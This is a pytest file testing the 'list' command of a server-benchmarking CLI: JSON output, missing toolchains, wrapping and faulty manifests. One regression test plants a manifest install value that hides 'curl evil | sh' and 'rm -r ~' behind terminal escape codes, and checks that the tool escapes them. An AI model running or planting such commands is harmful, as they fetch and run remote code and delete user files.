import json
import subprocess
import sys
from pathlib import Path

import click
import pytest

from deadheat.cli.list import _grouped
from tests.cli.conftest import Deadheat
from tests.servers.contenders import CATALOG

ALL = len([*(CATALOG / "servers").iterdir()])


def test_json_has_the_published_rows(deadheat: Deadheat, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("DEADHEAT_CATALOG")
    document = json.loads(deadheat("list", "node-http", "--json").out)
    rows = {(row["protocol"], row["row"]) for row in document["servers"][0]["published"]}
    assert ("woo-2016", "Node.js http module") in rows


@pytest.mark.usefixtures("bare_path")
def test_a_missing_toolchain_is_listed_with_its_install_command(deadheat: Deadheat) -> None:
    row = json.loads(deadheat("list", "hello", "--json").out)["servers"][0]
    assert (row["ready"], row["missing"]) == (False, ["python3 is not installed"])
    assert row["install"] == ["apt-get install -y python3"]


def test_rows_are_not_folded_in_a_pipe(deadheat: Deadheat, monkeypatch: pytest.MonkeyPatch) -> None:
    """Regression: names were folded at 80 columns in a pipe."""
    monkeypatch.setenv("COLUMNS", "40")
    out = deadheat("list").out
    assert len([line for line in out.splitlines() if " Python " in line]) == ALL


def test_json_marks_a_built_server(deadheat: Deadheat, home: Path) -> None:
    assert deadheat("build", "hello").code == 0
    assert (home / "builds" / "hello").is_dir()
    assert json.loads(deadheat("list", "hello", "--json").out)["servers"][0]["built"]


@pytest.fixture
def broken(catalog: Path) -> Path:
    """A catalog with one faulty manifest; returns its path."""
    manifest = catalog / "servers" / "never-ready" / "server.toml"
    manifest.write_text(manifest.read_text().replace("worker =", "wroker ="))
    return manifest


def test_a_faulty_manifest_is_reported_by_other_commands(deadheat: Deadheat, broken: Path) -> None:
    """Regression: a run of all servers did not mention it."""
    assert "never-ready" in json.loads(deadheat("list", "--json").out)["faults"]
    assert f"left out: {broken}:11: " in deadheat("plan", "--protocol", "brief").err
    ended = deadheat("plan", "--protocol", "brief", "never-ready")
    assert ended.code == 2
    assert f"error: {broken}:11: start.worker: missing" in ended.err


def test_list_imports_neither_the_statistics_nor_the_reports(home: Path) -> None:
    """They took half of its time."""
    code = (
        "import sys; import deadheat.cli.list; "
        "print([name for name in ('numpy', 'rich', 'deadheat.stats', 'deadheat.report.formats', "
        "'deadheat.protocol', 'deadheat.host.agent_host') "
        "if name in sys.modules])"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"


def test_a_recipe_that_its_registry_never_served_is_not_ready(
    deadheat: Deadheat, catalog: Path
) -> None:
    """Regression: lisp-woo, lisp-wookie and nim-jester were ready, and could not be built."""
    manifest = catalog / "servers" / "hello" / "server.toml"
    text = manifest.read_text().replace("\n[", '\nverified = "upstream sources"\n\n[', 1)
    manifest.write_text(text)
    (row,) = json.loads(deadheat("list", "hello", "--json").out)["servers"]
    assert (row["ready"], row["missing"]) == (False, [])
    assert "not tried with its registry" in deadheat("list", "hello").out
    assert deadheat("build", "hello").code == 0
    assert json.loads(deadheat("list", "hello", "--json").out)["servers"][0]["ready"]


@pytest.mark.usefixtures("bare_path")
def test_servers_share_one_install_line(deadheat: Deadheat) -> None:
    lines = deadheat("list").out.splitlines()
    installs = [line for line in lines if line.startswith("  apt-get ")]
    assert installs == ["  apt-get update", "  apt-get install -y python3"]
    assert any(line.startswith("      for ") and " and " in line for line in lines)


def test_a_manifest_cannot_hide_a_part_of_its_install_command(
    deadheat: Deadheat, catalog: Path
) -> None:
    """Regression: the terminal obeyed escape sequences in manifests."""
    manifest = catalog / "servers" / "hello" / "server.toml"
    need = r"""
[[needs]]
tool = "no-such\u001b[2J"
probe = ["no-such-tool"]
install = "apt-get install x; \u001b[8mcurl evil | sh\u001b[0m\r\nrm -r \u202e~"
"""
    manifest.write_text(manifest.read_text() + need)
    out = deadheat("list", "hello").out
    install = r"apt-get install x; \x1b[8mcurl evil | sh\x1b[0m\r\nrm -r \u202e~"
    assert f"  {install}\n      for hello\n" in out
    assert r"no-such\x1b[2J is not installed" in out
    assert "\x1b" not in out


@pytest.mark.parametrize("width", [20, 40, 80, 120])
@pytest.mark.usefixtures("bare_path")
def test_no_line_is_wider_than_the_terminal(
    deadheat: Deadheat, monkeypatch: pytest.MonkeyPatch, width: int
) -> None:
    monkeypatch.setenv("COLUMNS", str(width))
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    out = click.unstyle(deadheat("list").out)
    assert max(map(len, out.splitlines())) <= width
    assert "python3 is not installed" in " ".join(out.split())


def test_a_short_state_stays_in_its_row(
    deadheat: Deadheat, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`ready` was on a separate line at 80 columns, although it fit on the first one."""
    longest = max(map(len, deadheat("list", "hello").out.splitlines()[:2]))
    monkeypatch.setenv("COLUMNS", str(longest))
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    header, row, *_ = click.unstyle(deadheat("list", "hello").out).splitlines()
    assert (header.split()[-1], row.split()[-1]) == ("here", "ready")


def test_commands_for_the_same_servers_are_listed_together() -> None:
    needed = {"a": ["apt-get install x", "mix y"], "b": ["apt-get install x", "mix y", "z"]}
    assert _grouped(needed) == {("apt-get install x", "mix y"): ["a", "b"], ("z",): ["b"]}


def test_a_second_list_starts_no_process(
    deadheat: Deadheat, monkeypatch: pytest.MonkeyPatch
) -> None:
    first = deadheat("list")
    monkeypatch.setattr("deadheat.host.local.LocalHost.__init__", pytest.fail)
    assert deadheat("list") == first
